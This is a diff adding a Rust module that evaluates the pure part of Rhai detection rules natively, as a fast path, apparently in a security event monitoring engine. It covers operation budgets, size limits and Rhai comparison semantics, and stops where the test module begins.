@@ -1,0 +1,1361 @@
+//! The native fast path: the pure part of a rule, evaluated without the Rhai interpreter.
+//!
+//! Most evaluations of a detection rule end without an alert: a leading guard such as
+//! `if event.proc.action != "exec" { return; }` returns, or the final condition is false.
+//! Interpreting that in Rhai costs 0.5–2 µs (variable lookups, function resolution, a
+//! `Dynamic` per intermediate value). At load time each rule's statements are translated,
+//! where they stay inside a small pure subset (`let`, `if`, `return;`, property chains on
+//! `event`, literals, comparisons, `&&`/`||`/`!`/`??`, `in`, string methods, and the pure
+//! script functions `glob`, `re_match`, `cidr`, `entropy`, `in_list`), into a tree this
+//! module evaluates directly. Everything else (`emit`, windows, `enrich`, loops,
+//! assignments...) becomes an opaque step.
+//!
+//! The contract is one-sided: [`FastPath::quiet`] returns `true` only when Rhai, run on
+//! the same event, would finish without an alert, a side effect or a failure. Whenever the
+//! native evaluation meets an opaque step, a value of a type it does not model, or anything
+//! Rhai would report as an error, it gives up and the rule runs in Rhai from the start (the
+//! fast path has no side effects, so nothing is done twice). Results therefore never
+//! depend on whether the fast path ran; `tests` below and `tests/native` hold it to Rhai.
+
+use std::sync::Arc;
+
+use regex::Regex;
+use rhai::{
+    ASTFlags, BinaryExpr, Dynamic, Expr, FlowControl, FnCallExpr, Ident, ImmutableString,
+    OpAssignment, Stmt, AST, FLOAT, INT,
+};
+
+use crate::context::HostData;
+use crate::limits::Limits;
+use crate::matchers::{self, cidr_contains, entropy};
+
+/// The native form of a rule's statements, when that form can ever finish on its own.
+pub struct FastPath {
+    body: Vec<S>,
+    max_string_size: usize,
+    max_array_size: usize,
+    /// Nodes loops may run in one evaluation (beyond the one pass every node is allowed)
+    /// before the operation limit could be near.
+    loop_budget: u64,
+}
+
+/// Reusable per-batch storage for `let` bindings.
+#[derive(Default)]
+pub struct Locals(Vec<Val>);
+
+/// The native evaluation gave up: Rhai decides.
+struct Fallback;
+
+type R<T> = Result<T, Fallback>;
+
+#[derive(Clone, Debug)]
+enum Val {
+    Unit,
+    Bool(bool),
+    Int(INT),
+    Float(FLOAT),
+    Str(ImmutableString),
+    Arr(Arc<[Val]>),
+    /// A map or array read from the event: only passed along (`??`), never inspected.
+    Other,
+}
+
+enum S {
+    Let(usize, X),
+    Expr(X),
+    If(X, Vec<S>, Vec<S>),
+    Block(Vec<S>),
+    /// `slot = value` for a `let` binding.
+    Assign(usize, X),
+    /// `for slot in from..to` / `from..=to` over integers; `nodes` is the body's size.
+    For {
+        slot: usize,
+        from: X,
+        to: X,
+        inclusive: bool,
+        body: Vec<S>,
+        nodes: u64,
+    },
+    Return,
+    /// Only Rhai can run this statement.
+    Opaque,
+}
+
+enum X {
+    Lit(Val),
+    Local(usize),
+    /// A chain on the `event` variable: navigated in place, without copying maps.
+    Event(Vec<Step>),
+    Chain(Box<X>, Vec<Step>),
+    Array(Vec<X>),
+    Not(Box<X>),
+    Cmp(Cmp, Box<X>, Box<X>),
+    And(Vec<X>),
+    Or(Vec<X>),
+    Coalesce(Vec<X>),
+    Add(Box<X>, Box<X>),
+    Sub(Box<X>, Box<X>),
+    /// `needle in haystack`, Rhai's `contains(haystack, needle)`.
+    Contains(Box<X>, Box<X>),
+    /// `glob(text, "literal")` / `re_match(text, "literal")`, compiled at load.
+    Matches(Box<X>, Arc<Regex>),
+    Cidr(Box<X>, Box<X>),
+    Entropy(Box<X>),
+    InList(Box<X>, ImmutableString),
+    If(Box<X>, Box<X>, Box<X>),
+}
+
+enum Step {
+    Prop(ImmutableString),
+    Index(X),
+    Method(Method, Vec<X>),
+}
+
+#[derive(Clone, Copy)]
+enum Method {
+    Len,
+    Split,
+    ToLower,
+    ToUpper,
+    Contains,
+    StartsWith,
+    EndsWith,
+    ToString,
+}
+
+#[derive(Clone, Copy)]
+enum Cmp {
+    Eq,
+    Ne,
+    Lt,
+    Le,
+    Gt,
+    Ge,
+}
+
+/// Rhai counts at least one operation per statement and expression node; a fast path is
+/// only used when even four per node could not reach the rule's operation limit.
+const OPERATIONS_PER_NODE: u64 = 4;
+const OPERATIONS_MARGIN: u64 = 64;
+/// Deeper trees are left to Rhai (keeps the native recursion shallow).
+const MAX_DEPTH: usize = 48;
+
+impl FastPath {
+    /// Translate `ast`; `None` when no evaluation could finish natively (the first
+    /// statement that always runs is opaque), or the rule defines script functions (which
+    /// may shadow the functions evaluated here), or its limits are too tight to be sure.
+    pub fn compile(ast: &AST, limits: &Limits) -> Option<FastPath> {
+        if ast.has_functions() {
+            return None;
+        }
+        let mut compiler = Compiler {
+            max_array_size: limits.max_array_size,
+            ..Compiler::default()
+        };
+        let body = compiler.block(ast.statements(), 0);
+        let (returns, falls_through) = reach(&body);
+        let budget = compiler
+            .nodes
+            .saturating_mul(OPERATIONS_PER_NODE)
+            .saturating_add(OPERATIONS_MARGIN);
+        if !(returns || falls_through) || budget > limits.max_operations {
+            return None;
+        }
+        Some(FastPath {
+            body,
+            max_string_size: limits.max_string_size,
+            max_array_size: limits.max_array_size,
+            loop_budget: (limits.max_operations - budget) / OPERATIONS_PER_NODE,
+        })
+    }
+
+    /// `true` when the rule, run by Rhai on `event`, would end without an alert, a side
+    /// effect or a failure; `false` when Rhai has to run it.
+    pub fn quiet(&self, event: &Dynamic, host: &HostData, locals: &mut Locals) -> bool {
+        locals.0.clear();
+        let mut run = Run {
+            fast: self,
+            event,
+            host,
+            locals: &mut locals.0,
+            loop_budget: self.loop_budget,
+        };
+        run.block(&self.body).is_ok()
+    }
+}
+
+/// (can it return, can it run past its end): whether a fast path can ever finish.
+fn reach(block: &[S]) -> (bool, bool) {
+    let mut returns = false;
+    for statement in block {
+        let (r, through) = match statement {
+            S::Let(..) | S::Expr(_) | S::Assign(..) => (false, true),
+            // A loop may run zero times.
+            S::For { body, .. } => (reach(body).0, true),
+            S::Return => (true, false),
+            S::Opaque => (false, false),
+            S::Block(inner) => reach(inner),
+            S::If(_, then, otherwise) => {
+                let (r1, t1) = reach(then);
+                let (r2, t2) = reach(otherwise);
+                (r1 || r2, t1 || t2)
+            }
+        };
+        returns |= r;
+        if !through {
+            return (returns, false);
+        }
+    }
+    (returns, true)
+}
+
+#[derive(Default)]
+struct Compiler {
+    /// Names of the `let` bindings in scope, innermost last; a binding's slot is its index.
+    names: Vec<ImmutableString>,
+    /// Which of them are `const` (assigning one is Rhai's error to report).
+    constant: Vec<bool>,
+    nodes: u64,
+    max_array_size: usize,
+}
+
+impl Compiler {
+    fn block(&mut self, statements: &[Stmt], depth: usize) -> Vec<S> {
+        let mark = self.names.len();
+        let out = statements
+            .iter()
+            .map(|s| self.statement(s, depth + 1))
+            .collect();
+        self.names.truncate(mark);
+        self.constant.truncate(mark);
+        out
+    }
+
+    fn bind(&mut self, name: &ImmutableString, constant: bool) -> usize {
+        self.names.push(name.clone());
+        self.constant.push(constant);
+        self.names.len() - 1
+    }
+
+    fn statement(&mut self, statement: &Stmt, depth: usize) -> S {
+        self.nodes += 1;
+        if depth > MAX_DEPTH {
+            return S::Opaque;
+        }
+        match statement {
+            Stmt::Noop(_) => S::Block(Vec::new()),
+            Stmt::Var(var, flags, _) => {
+                // The binding exists for later statements even when its value is opaque.
+                let value = self.expr(&var.1, depth + 1);
+                let slot = self.bind(&var.0.name, flags.intersects(ASTFlags::CONSTANT));
+                match value {
+                    Some(x) => S::Let(slot, x),
+                    None => S::Opaque,
+                }
+            }
+            Stmt::If(flow, _) => match self.expr(&flow.expr, depth + 1) {
+                Some(condition) => S::If(
+                    condition,
+                    self.block(flow.body.statements(), depth),
+                    self.block(flow.branch.statements(), depth),
+                ),
+                None => S::Opaque,
+            },
+            Stmt::Block(block) => S::Block(self.block(block.statements(), depth)),
+            Stmt::Assignment(assignment) => self.assignment(assignment, depth).unwrap_or(S::Opaque),
+            Stmt::For(each, _) => self.for_loop(each, depth).unwrap_or(S::Opaque),
+            Stmt::Return(None, flags, _) if !flags.intersects(ASTFlags::BREAK) => S::Return,
+            Stmt::Expr(expr) => self.expr(expr, depth + 1).map_or(S::Opaque, S::Expr),
+            Stmt::FnCall(call, _) => self.call(call, depth + 1).map_or(S::Opaque, S::Expr),
+            _ => S::Opaque,
+        }
+    }
+
+    /// `name = value` to a `let` binding (not `+=` and the like, not to `event`).
+    fn assignment(&mut self, assignment: &(OpAssignment, BinaryExpr), depth: usize) -> Option<S> {
+        let (op, target) = assignment;
+        if op.is_op_assignment() {
+            return None;
+        }
+        let Expr::Variable(var, _, _) = &target.lhs else {
+            return None;
+        };
+        let slot = self.names.iter().rposition(|n| *n == var.1)?;
+        if self.constant[slot] {
+            return None;
+        }
+        Some(S::Assign(slot, self.expr(&target.rhs, depth + 1)?))
+    }
+
+    /// `for i in a..b { ... }` or `a..=b`: integer ranges only, no counter variable.
+    fn for_loop(&mut self, each: &(Ident, Option<Ident>, FlowControl), depth: usize) -> Option<S> {
+        let (var, counter, flow) = each;
+        if counter.is_some() {
+            return None;
+        }
+        let Expr::FnCall(range, _) = &flow.expr else {
+            return None;
+        };
+        let inclusive = match (range.name.as_str(), range.op_token.is_some()) {
+            ("..", true) => false,
+            ("..=", true) => true,
+            _ => return None,
+        };
+        let [from, to] = &range.args[..] else {
+            return None;
+        };
+        let (from, to) = (self.expr(from, depth + 1)?, self.expr(to, depth + 1)?);
+        let mark = self.names.len();
+        let slot = self.bind(&var.name, false);
+        let before = self.nodes;
+        let body = self.block(flow.body.statements(), depth);
+        let nodes = self.nodes - before + 1;
+        self.names.truncate(mark);
+        self.constant.truncate(mark);
+        Some(S::For {
+            slot,
+            from,
+            to,
+            inclusive,
+            body,
+            nodes,
+        })
+    }
+
+    fn boxed(&mut self, expr: &Expr, depth: usize) -> Option<Box<X>> {
+        self.expr(expr, depth).map(Box::new)
+    }
+
+    fn all(&mut self, exprs: &[Expr], depth: usize) -> Option<Vec<X>> {
+        exprs.iter().map(|e| self.expr(e, depth)).collect()
+    }
+
+    fn expr(&mut self, expr: &Expr, depth: usize) -> Option<X> {
+        self.nodes += 1;
+        if depth > MAX_DEPTH {
+            return None;
+        }
+        let next = depth + 1;
+        Some(match expr {
+            Expr::Unit(_) => X::Lit(Val::Unit),
+            Expr::BoolConstant(b, _) => X::Lit(Val::Bool(*b)),
+            Expr::IntegerConstant(i, _) => X::Lit(Val::Int(*i)),
+            Expr::FloatConstant(f, _) => X::Lit(Val::Float(**f)),
+            Expr::StringConstant(s, _) => X::Lit(Val::Str(s.clone())),
+            Expr::DynamicConstant(d, _) => match literal(d)? {
+                Val::Arr(items) if items.len() > self.max_array_size => return None,
+                value => X::Lit(value),
+            },
+            Expr::Array(items, _) => X::Array(self.all(items, next)?),
+            Expr::Variable(var, _, _) => {
+                let name = &var.1;
+                match self.names.iter().rposition(|n| n == name) {
+                    Some(slot) => X::Local(slot),
+                    None if name.as_str() == "event" => X::Event(Vec::new()),
+                    None => return None,
+                }
+            }
+            Expr::And(items, _) => X::And(self.all(items, next)?),
+            Expr::Or(items, _) => X::Or(self.all(items, next)?),
+            Expr::Coalesce(items, _) => X::Coalesce(self.all(items, next)?),
+            Expr::FnCall(call, _) => self.call(call, next)?,
+            Expr::Dot(..) | Expr::Index(..) => self.chain(expr, next)?,
+            Expr::Stmt(block) => self.if_expression(block.statements(), next)?,
+            _ => return None,
+        })
+    }
+
+    /// `if c { a } else { b }` used as a value (each branch a single expression or empty).
+    fn if_expression(&mut self, statements: &[Stmt], depth: usize) -> Option<X> {
+        let [Stmt::If(flow, _)] = statements else {
+            return None;
+        };
+        let condition = self.boxed(&flow.expr, depth)?;
+        let then = self.branch_value(flow.body.statements(), depth)?;
+        let otherwise = self.branch_value(flow.branch.statements(), depth)?;
+        Some(X::If(condition, Box::new(then), Box::new(otherwise)))
+    }
+
+    fn branch_value(&mut self, statements: &[Stmt], depth: usize) -> Option<X> {
+        match statements {
+            [] => Some(X::Lit(Val::Unit)),
+            [Stmt::Expr(expr)] => self.expr(expr, depth),
+            [Stmt::FnCall(call, _)] => self.call(call, depth),
+            nested @ [Stmt::If(..)] => self.if_expression(nested, depth),
+            _ => None,
+        }
+    }
+
+    fn call(&mut self, call: &FnCallExpr, depth: usize) -> Option<X> {
+        if call.capture_parent_scope {
+            return None;
+        }
+        let args = &call.args[..];
+        let operator = call.op_token.is_some();
+        Some(match (call.name.as_str(), args) {
+            ("!", [a]) if operator => X::Not(self.boxed(a, depth)?),
+            ("==", [a, b]) if operator => self.compare(Cmp::Eq, a, b, depth)?,
+            ("!=", [a, b]) if operator => self.compare(Cmp::Ne, a, b, depth)?,
+            ("<", [a, b]) if operator => self.compare(Cmp::Lt, a, b, depth)?,
+            ("<=", [a, b]) if operator => self.compare(Cmp::Le, a, b, depth)?,
+            (">", [a, b]) if operator => self.compare(Cmp::Gt, a, b, depth)?,
+            (">=", [a, b]) if operator => self.compare(Cmp::Ge, a, b, depth)?,
+            ("+", [a, b]) if operator => X::Add(self.boxed(a, depth)?, self.boxed(b, depth)?),
+            ("-", [a, b]) if operator => X::Sub(self.boxed(a, depth)?, self.boxed(b, depth)?),
+            ("contains", [haystack, needle]) => {
+                X::Contains(self.boxed(haystack, depth)?, self.boxed(needle, depth)?)
+            }
+            ("glob", [text, Expr::StringConstant(pattern, _)]) => X::Matches(
+                self.boxed(text, depth)?,
+                matchers::compile_glob(pattern).ok()?,
+            ),
+            ("re_match", [text, Expr::StringConstant(pattern, _)]) => X::Matches(
+                self.boxed(text, depth)?,
+                matchers::compile_regex(pattern).ok()?,
+            ),
+            ("cidr", [ip, network]) => X::Cidr(self.boxed(ip, depth)?, self.boxed(network, depth)?),
+            ("entropy", [text]) => X::Entropy(self.boxed(text, depth)?),
+            ("in_list", [value, Expr::StringConstant(name, _)]) => {
+                X::InList(self.boxed(value, depth)?, name.clone())
+            }
+            _ => return None,
+        })
+    }
+
+    fn compare(&mut self, op: Cmp, a: &Expr, b: &Expr, depth: usize) -> Option<X> {
+        Some(X::Cmp(op, self.boxed(a, depth)?, self.boxed(b, depth)?))
+    }
+
+    /// `a.b[c].d(e)`: Rhai nests a chain to the right (`Dot(a, Index(b, Dot(c, d(e))))`,
+    /// the parent's kind saying how the child's left side applies, `BREAK` ending it).
+    fn chain(&mut self, expr: &Expr, depth: usize) -> Option<X> {
+        let (Expr::Dot(binary, flags, _) | Expr::Index(binary, flags, _)) = expr else {
+            return None;
+        };
+        let mut steps = Vec::new();
+        let mut dotting = matches!(expr, Expr::Dot(..));
+        let mut stop = flags.intersects(ASTFlags::BREAK);
+        if flags.intersects(ASTFlags::NEGATED) {
+            return None;
+        }
+        let mut rest = &binary.rhs;
+        loop {
+            self.nodes += 1;
+            match rest {
+                Expr::Dot(inner, flags, _) | Expr::Index(inner, flags, _) if !stop => {
+                    if flags.intersects(ASTFlags::NEGATED) {
+                        return None;
+                    }
+                    steps.push(self.step(&inner.lhs, dotting, depth)?);
+                    dotting = matches!(rest, Expr::Dot(..));
+                    stop = flags.intersects(ASTFlags::BREAK);
+                    rest = &inner.rhs;
+                }
+                last => {
+                    steps.push(self.step(last, dotting, depth)?);
+                    break;
+                }
+            }
+        }
+        Some(match self.expr(&binary.lhs, depth)? {
+            X::Event(mut base) => {
+                base.append(&mut steps);
+                X::Event(base)
+            }
+            base => X::Chain(Box::new(base), steps),
+        })
+    }
+
+    fn step(&mut self, expr: &Expr, dotting: bool, depth: usize) -> Option<Step> {
+        if !dotting {
+            return Some(Step::Index(self.expr(expr, depth)?));
+        }
+        match expr {
+            Expr::Property(prop, _) => Some(Step::Prop(prop.2.clone())),
+            Expr::MethodCall(call, _) => {
+                let method = match (call.name.as_str(), call.args.len()) {
+                    ("len", 0) => Method::Len,
+                    ("split", 1) => Method::Split,
+                    ("to_lower", 0) => Method::ToLower,
+                    ("to_upper", 0) => Method::ToUpper,
+                    ("contains", 1) => Method::Contains,
+                    ("starts_with", 1) => Method::StartsWith,
+                    ("ends_with", 1) => Method::EndsWith,
+                    ("to_string", 0) => Method::ToString,
+                    _ => return None,
+                };
+                Some(Step::Method(method, self.all(&call.args, depth)?))
+            }
+            _ => None,
+        }
+    }
+}
+
+/// A constant the optimizer folded (arrays of literals, mostly).
+fn literal(value: &Dynamic) -> Option<Val> {
+    if value.is_array() {
+        let array = value.as_array_ref().ok()?;
+        let items: Option<Vec<Val>> = array.iter().map(literal).collect();
+        return Some(Val::Arr(items?.into()));
+    }
+    match scalar(value) {
+        Val::Other => None,
+        v => Some(v),
+    }
+}
+
+/// An event value as the fast path models it (maps and arrays stay in the event).
+fn scalar(value: &Dynamic) -> Val {
+    if let Ok(s) = value.as_immutable_string_ref() {
+        return Val::Str(s.clone());
+    }
+    if let Ok(i) = value.as_int() {
+        return Val::Int(i);
+    }
+    if let Ok(b) = value.as_bool() {
+        return Val::Bool(b);
+    }
+    if let Ok(f) = value.as_float() {
+        return Val::Float(f);
+    }
+    if value.is_unit() {
+        return Val::Unit;
+    }
+    Val::Other
+}
+
+enum Flow {
+    Next,
+    Return,
+}
+
+struct Run<'a> {
+    fast: &'a FastPath,
+    event: &'a Dynamic,
+    host: &'a HostData,
+    locals: &'a mut Vec<Val>,
+    loop_budget: u64,
+}
+
+impl Run<'_> {
+    fn block(&mut self, block: &[S]) -> R<Flow> {
+        for statement in block {
+            if let Flow::Return = self.statement(statement)? {
+                return Ok(Flow::Return);
+            }
+        }
+        Ok(Flow::Next)
+    }
+
+    /// Bind `slot` (a new binding is the next slot, or a reused one past a closed block).
+    fn set(&mut self, slot: usize, value: Val) -> R<()> {
+        if slot < self.locals.len() {
+            self.locals[slot] = value;
+        } else if slot == self.locals.len() {
+            self.locals.push(value);
+        } else {
+            return Err(Fallback);
+        }
+        Ok(())
+    }
+
+    fn statement(&mut self, statement: &S) -> R<Flow> {
+        match statement {
+            S::Let(slot, x) => {
+                let value = self.eval(x)?;
+                self.set(*slot, value)?;
+                Ok(Flow::Next)
+            }
+            S::Assign(slot, x) => {
+                let value = self.eval(x)?;
+                if *slot >= self.locals.len() {
+                    return Err(Fallback);
+                }
+                self.locals[*slot] = value;
+                Ok(Flow::Next)
+            }
+            S::For {
+                slot,
+                from,
+                to,
+                inclusive,
+                body,
+                nodes,
+            } => {
+                let (Val::Int(from), Val::Int(to)) = (self.eval(from)?, self.eval(to)?) else {
+                    return Err(Fallback);
+                };
+                let mut i = from;
+                while i < to || (*inclusive && i == to) {
+                    self.loop_budget = self.loop_budget.checked_sub(*nodes).ok_or(Fallback)?;
+                    self.set(*slot, Val::Int(i))?;
+                    if let Flow::Return = self.block(body)? {
+                        return Ok(Flow::Return);
+                    }
+                    i = i.checked_add(1).ok_or(Fallback)?;
+                }
+                Ok(Flow::Next)
+            }
+            S::Expr(x) => self.eval(x).map(|_| Flow::Next),
+            S::If(condition, then, otherwise) => {
+                if self.boolean(condition)? {
+                    self.block(then)
+                } else {
+                    self.block(otherwise)
+                }
+            }
+            S::Block(inner) => self.block(inner),
+            S::Return => Ok(Flow::Return),
+            S::Opaque => Err(Fallback),
+        }
+    }
+
+    fn boolean(&mut self, x: &X) -> R<bool> {
+        match self.eval(x)? {
+            Val::Bool(b) => Ok(b),
+            _ => Err(Fallback),
+        }
+    }
+
+    fn string(&self, text: String) -> R<Val> {
+        if text.len() > self.fast.max_string_size {
+            return Err(Fallback);
+        }
+        Ok(Val::Str(text.into()))
+    }
+
+    fn sized(&self, text: ImmutableString) -> R<Val> {
+        if text.len() > self.fast.max_string_size {
+            return Err(Fallback);
+        }
+        Ok(Val::Str(text))
+    }
+
+    fn eval(&mut self, x: &X) -> R<Val> {
+        Ok(match x {
+            X::Lit(v) => v.clone(),
+            X::Local(slot) => self.locals.get(*slot).cloned().ok_or(Fallback)?,
+            X::Event(steps) => {
+                let event = self.event;
+                self.navigate(event, steps)?
+            }
+            X::Chain(base, steps) => {
+                let mut value = self.eval(base)?;
+                for step in steps {
+                    value = self.apply(value, step)?;
+                }
+                value
+            }
+            X::Array(items) => {
+                if items.len() > self.fast.max_array_size {
+                    return Err(Fallback);
+                }
+                let values: R<Vec<Val>> = items.iter().map(|i| self.eval(i)).collect();
+                Val::Arr(values?.into())
+            }
+            X::Not(a) => Val::Bool(!self.boolean(a)?),
+            X::Cmp(op, a, b) => {
+                let (a, b) = (self.eval(a)?, self.eval(b)?);
+                Val::Bool(compare(*op, &a, &b)?)
+            }
+            X::And(items) => {
+                for item in items {
+                    if !self.boolean(item)? {
+                        return Ok(Val::Bool(false));
+                    }
+                }
+                Val::Bool(true)
+            }
+            X::Or(items) => {
+                for item in items {
+                    if self.boolean(item)? {
+                        return Ok(Val::Bool(true));
+                    }
+                }
+                Val::Bool(false)
+            }
+            X::Coalesce(items) => {
+                let (last, first) = items.split_last().ok_or(Fallback)?;
+                for item in first {
+                    let value = self.eval(item)?;
+                    if !matches!(value, Val::Unit) {
+                        return Ok(value);
+                    }
+                }
+                self.eval(last)?
+            }
+            X::Add(a, b) => match (self.eval(a)?, self.eval(b)?) {
+                (Val::Int(a), Val::Int(b)) => Val::Int(a.checked_add(b).ok_or(Fallback)?),
+                (Val::Str(a), Val::Str(b)) => self.string(format!("{a}{b}"))?,
+                _ => return Err(Fallback),
+            },
+            X::Sub(a, b) => match (self.eval(a)?, self.eval(b)?) {
+                (Val::Int(a), Val::Int(b)) => Val::Int(a.checked_sub(b).ok_or(Fallback)?),
+                _ => return Err(Fallback),
+            },
+            X::Contains(haystack, needle) => {
+                let (haystack, needle) = (self.eval(haystack)?, self.eval(needle)?);
+                Val::Bool(contains(&haystack, &needle)?)
+            }
+            X::Matches(text, regex) => match self.eval(text)? {
+                Val::Str(s) => Val::Bool(regex.is_match(&s)),
+                Val::Unit => Val::Bool(false),
+                _ => return Err(Fallback),
+            },
+            X::Cidr(ip, network) => match (self.eval(ip)?, self.eval(network)?) {
+                (Val::Str(ip), Val::Str(net)) => {
+                    Val::Bool(cidr_contains(&ip, &net).map_err(|_| Fallback)?)
+                }
+                (Val::Unit, Val::Str(_)) => Val::Bool(false),
+                _ => return Err(Fallback),
+            },
+            X::Entropy(text) => match self.eval(text)? {
+                Val::Str(s) => Val::Float(entropy(&s)),
+                Val::Unit => Val::Float(0.0),
+                _ => return Err(Fallback),
+            },
+            X::InList(value, name) => {
+                let list = self.host.lists.get(name.as_str()).ok_or(Fallback)?;
+                let found = match self.eval(value)? {
+                    Val::Unit => false,
+                    Val::Str(s) => list.contains(s.as_str()),
+                    Val::Int(i) => list.contains(i.to_string().as_str()),
+                    Val::Bool(b) => list.contains(if b { "true" } else { "false" }),
+                    _ => return Err(Fallback),
+                };
+                Val::Bool(found)
+            }
+            X::If(condition, then, otherwise) => {
+                if self.boolean(condition)? {
+                    self.eval(then)?
+                } else {
+                    self.eval(otherwise)?
+                }
+            }
+        })
+    }
+
+    /// Follow `steps` through the event's own maps and arrays, copying only the end value.
+    fn navigate(&mut self, value: &Dynamic, steps: &[Step]) -> R<Val> {
+        match steps.split_first() {
+            Some((Step::Prop(name), rest)) => {
+                let map = value.as_map_ref().map_err(|_| Fallback)?;
+                match map.get(name.as_str()) {
+                    Some(child) => self.navigate(child, rest),
+                    // A missing property of a map reads as `()`.
+                    None => self.apply_all(Val::Unit, rest),
+                }
+            }
+            Some((Step::Index(index), rest)) if value.is_array() => {
+                let index = match self.eval(index)? {
+                    Val::Int(i) => usize::try_from(i).map_err(|_| Fallback)?,
+                    _ => return Err(Fallback),
+                };
+                let array = value.as_array_ref().map_err(|_| Fallback)?;
+                let child = array.get(index).ok_or(Fallback)?;
+                self.navigate(child, rest)
+            }
+            _ => {
+                let here = if value.is_map() || value.is_array() {
+                    if steps.is_empty() {
+                        Val::Other
+                    } else {
+                        return Err(Fallback);
+                    }
+                } else {
+                    scalar(value)
+                };
+                self.apply_all(here, steps)
+            }
+        }
+    }
+
+    fn apply_all(&mut self, mut value: Val, steps: &[Step]) -> R<Val> {
+        for step in steps {
+            value = self.apply(value, step)?;
+        }
+        Ok(value)
+    }
+
+    fn apply(&mut self, value: Val, step: &Step) -> R<Val> {
+        match step {
+            Step::Prop(_) => Err(Fallback),
+            Step::Index(index) => match (value, self.eval(index)?) {
+                (Val::Arr(items), Val::Int(i)) => {
+                    let i = usize::try_from(i).map_err(|_| Fallback)?;
+                    items.get(i).cloned().ok_or(Fallback)
+                }
+                _ => Err(Fallback),
+            },
+            Step::Method(method, args) => {
+                let args: R<Vec<Val>> = args.iter().map(|a| self.eval(a)).collect();
+                self.method(*method, value, &args?)
+            }
+        }
+    }
+
+    fn method(&self, method: Method, value: Val, args: &[Val]) -> R<Val> {
+        Ok(match (method, value, args) {
+            (Method::Len, Val::Str(s), []) => {
+                Val::Int(INT::try_from(s.chars().count()).unwrap_or(INT::MAX))
+            }
+            (Method::Len, Val::Arr(items), []) => {
+                Val::Int(INT::try_from(items.len()).map_err(|_| Fallback)?)
+            }
+            (Method::Split, Val::Str(s), [Val::Str(delimiter)]) if !delimiter.is_empty() => {
+                // Rhai's `split`: a string without the delimiter is one part, itself.
+                let parts: Vec<Val> = if s.is_empty() || !s.contains(delimiter.as_str()) {
+                    vec![Val::Str(s.clone())]
+                } else {
+                    s.split(delimiter.as_str())
+                        .map(|p| Val::Str(p.into()))
+                        .collect()
+                };
+                if parts.len() > self.fast.max_array_size || s.len() > self.fast.max_string_size {
+                    return Err(Fallback);
+                }
+                Val::Arr(parts.into())
+            }
+            // Rhai checks every function's result against the size limits, even a string
+            // returned unchanged.
+            (Method::ToLower, Val::Str(s), []) => {
+                if s.is_empty() || s.chars().all(char::is_lowercase) {
+                    self.sized(s)?
+                } else {
+                    self.string(s.to_lowercase())?
+                }
+            }
+            (Method::ToUpper, Val::Str(s), []) => {
+                if s.chars().all(char::is_uppercase) {
+                    self.sized(s)?
+                } else {
+                    self.string(s.to_uppercase())?
+                }
+            }
+            (Method::Contains, haystack @ (Val::Str(_) | Val::Arr(_)), [needle]) => {
+                Val::Bool(contains(&haystack, needle)?)
+            }
+            (Method::StartsWith, Val::Str(s), [Val::Str(p)]) => {
+                Val::Bool(s.starts_with(p.as_str()))
+            }
+            (Method::EndsWith, Val::Str(s), [Val::Str(p)]) => Val::Bool(s.ends_with(p.as_str())),
+            (Method::ToString, Val::Int(i), []) => self.string(i.to_string())?,
+            (Method::ToString, Val::Str(s), []) => self.sized(s)?,
+            _ => return Err(Fallback),
+        })
+    }
+}
+
+fn compare(op: Cmp, a: &Val, b: &Val) -> R<bool> {
+    use std::cmp::Ordering;
+    let ordering: Ordering = match (a, b) {
+        (Val::Str(a), Val::Str(b)) => a.as_str().cmp(b.as_str()),
+        (Val::Int(a), Val::Int(b)) => a.cmp(b),
+        (Val::Bool(a), Val::Bool(b)) => match op {
+            Cmp::Eq => return Ok(a == b),
+            Cmp::Ne => return Ok(a != b),
+            _ => return Err(Fallback),
+        },
+        (Val::Float(a), Val::Float(b)) => return Ok(float_compare(op, *a, *b)),
+        (Val::Float(a), Val::Int(b)) => return Ok(float_compare(op, *a, *b as FLOAT)),
+        (Val::Int(a), Val::Float(b)) => return Ok(float_compare(op, *a as FLOAT, *b)),
+        // Rhai's built-in operators (`func/builtin.rs`): `()` equals only `()` and orders
+        // against nothing; `()` against a string is unequal and unordered, not an error.
+        (Val::Unit, Val::Unit) => return Ok(matches!(op, Cmp::Eq)),
+        (Val::Unit, Val::Str(_)) | (Val::Str(_), Val::Unit) => return Ok(matches!(op, Cmp::Ne)),
+        // `Other` may be an array, like `Arr`.
+        (Val::Other | Val::Arr(_), Val::Other | Val::Arr(_)) => return Err(Fallback),
+        // Any other two types differ: equality is false, ordering is an error.
+        _ => match op {
+            Cmp::Eq => return Ok(false),
+            Cmp::Ne => return Ok(true),
+            _ => return Err(Fallback),
+        },
+    };
+    Ok(match op {
+        Cmp::Eq => ordering.is_eq(),
+        Cmp::Ne => ordering.is_ne(),
+        Cmp::Lt => ordering.is_lt(),
+        Cmp::Le => ordering.is_le(),
+        Cmp::Gt => ordering.is_gt(),
+        Cmp::Ge => ordering.is_ge(),
+    })
+}
+
+/// Rhai's comparisons involving a float (`func/builtin.rs`, checked builds): relative to
+/// the larger magnitude, values within `FLOAT::EPSILON` are equal, so `0.0 <= -1e-115`.
+fn float_compare(op: Cmp, x: FLOAT, y: FLOAT) -> bool {
+    let max = if x * y == 0.0 {
+        1.0
+    } else {
+        x.abs().max(y.abs())
+    };
+    if max == 0.0 {
+        return matches!(op, Cmp::Eq | Cmp::Ge | Cmp::Le);
+    }
+    match op {
+        Cmp::Eq => (x - y).abs() / max <= FLOAT::EPSILON,
+        Cmp::Ne => (x - y).abs() / max > FLOAT::EPSILON,
+        Cmp::Gt => (x - y) / max > FLOAT::EPSILON,
+        Cmp::Ge => (x - y) / max > -FLOAT::EPSILON,
+        Cmp::Lt => (y - x) / max > FLOAT::EPSILON,
+        Cmp::Le => (y - x) / max > -FLOAT::EPSILON,
+    }
+}
+
+/// Rhai's `contains(haystack, needle)`: a substring for strings; for arrays the engine's
+/// exact-type overloads (`script_api::register_membership`) for string and integer needles.
+fn contains(haystack: &Val, needle: &Val) -> R<bool> {
+    match (haystack, needle) {
+        (Val::Str(h), Val::Str(n)) => Ok(h.contains(n.as_str())),
+        (Val::Arr(items), Val::Str(n)) => {
+            let mut found = false;
+            for item in items.iter() {
+                match item {
+                    Val::Str(s) => found |= s == n,
+                    Val::Int(_) | Val::Bool(_) | Val::Unit => {}
+                    _ => return Err(Fallback),
+                }
+            }
+            Ok(found)
+        }
+        (Val::Arr(items), Val::Int(n)) => {
+            let mut found = false;
+            for item in items.iter() {
+                match item {
+                    Val::Int(i) => found |= i == n,
+                    Val::Str(_) | Val::Bool(_) | Val::Unit => {}
+                    _ => return Err(Fallback),
+                }
+            }
+            Ok(found)
+        }
+        _ => Err(Fallback),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::path::Path;
